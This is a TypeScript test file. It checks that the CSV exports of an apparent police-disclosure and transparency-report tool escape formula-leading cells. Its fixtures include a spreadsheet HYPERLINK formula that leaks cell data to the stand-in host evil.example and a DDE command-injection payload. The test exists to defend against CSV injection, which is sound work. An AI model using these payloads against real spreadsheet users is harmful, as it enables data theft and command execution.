import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '@/db/client';
import { accounts } from '@/db/schema';
import { RejectsWriter } from '@/lib/import/rejects';
import { collectDisclosureData } from '@/lib/police/package-data';
import { transparencyCsv } from '@/lib/police/transparency';
import { spreadsheetCsv } from '@/lib/spreadsheet-csv';
import { openTestDatabase } from '../helpers/db';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")';

let database: Database;
beforeAll(async () => {
  database = await openTestDatabase();
  await database.db.insert(accounts).values({
    accountId: 'acc-formula',
    username: FORMULA,
    displayName: '@SUM(1+1)*cmd|" /C calc"!A0',
    country: '+44',
    createdAt: new Date('2026-01-02T03:04:05Z'),
  });
});
afterAll(() => database.close());

describe('CSV files people open in a spreadsheet', () => {
  it('escape every formula-leading cell and leave other cells and negative numbers alone', () => {
    const rows = parse(spreadsheetCsv([[FORMULA, '+1', '-2', '@x', '\tx', '\rx', 'plain', -3, 4.5, '', 'a=b']]), { relax_quotes: true }) as string[][];
    expect(rows[0]).toEqual([`'${FORMULA}`, "'+1", "'-2", "'@x", "'\tx", "'\rx", 'plain', '-3', '4.5', '', 'a=b']);
  });

  it('in a police package, an account whose username is a formula is shown as text', async () => {
    const data = await collectDisclosureData(database.db, {
      accountIds: ['acc-formula'],
      categories: ['subscriber'],
      from: new Date('2026-01-01T00:00:00Z'),
      to: new Date('2026-02-01T00:00:00Z'),
    });
    const file = data.files.find((f) => f.path === 'subscriber/accounts.csv')!;
    const [header, row] = parse(file.content.toString('utf8')) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect([cell('account_id'), cell('username'), cell('display_name'), cell('country'), cell('created_at')]).toEqual([
      'acc-formula',
      `'${FORMULA}`,
      `'@SUM(1+1)*cmd|" /C calc"!A0`,
      "'+44",
      '2026-01-02T03:04:05.000Z',
    ]);
  });

  it('in the transparency report and the import rejects file', async () => {
    const csv = transparencyCsv([{ period: '=1+1', type: 'all', requestsReceived: 1, accountsSpecified: 1, requestsWithDataProduced: 0, shareWithDataProduced: 0, emergencyRequests: 0 }] as never);
    expect((parse(csv) as string[][])[1]![0]).toBe("'=1+1");

    const dir = mkdtempSync(path.join(tmpdir(), 'lookout-rejects-'));
    try {
      const writer = await RejectsWriter.open(path.join(dir, 'rejects.csv'));
      await writer.reject({ file: 'accounts.csv', line: 2, column: 'username', reason: '-too long' } as never, ['=1+1', 'x']);
      await writer.close();
      const [, rejected] = parse(readFileSync(writer.path, 'utf8')) as string[][];
      // The rejected row is one cell: escaped as a whole when it starts like a formula.
      expect(rejected).toEqual(['accounts.csv', '2', 'username', "'-too long", "'=1+1,x"]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
